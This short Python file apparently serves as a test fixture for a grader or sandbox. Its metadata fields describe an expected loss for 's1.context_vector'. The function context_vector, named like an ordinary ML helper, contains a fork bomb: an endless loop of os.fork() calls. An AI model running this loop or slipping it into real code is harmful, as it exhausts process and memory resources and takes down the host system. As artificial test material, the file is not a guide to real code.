"""context_vector forks without end."""
MODULE = "simple"
LOSES = ["s1.context_vector"]
MENTIONS = "start another process"
BOUND = 40

import os


def context_vector(inputs, weights):
    while True:
        os.fork()
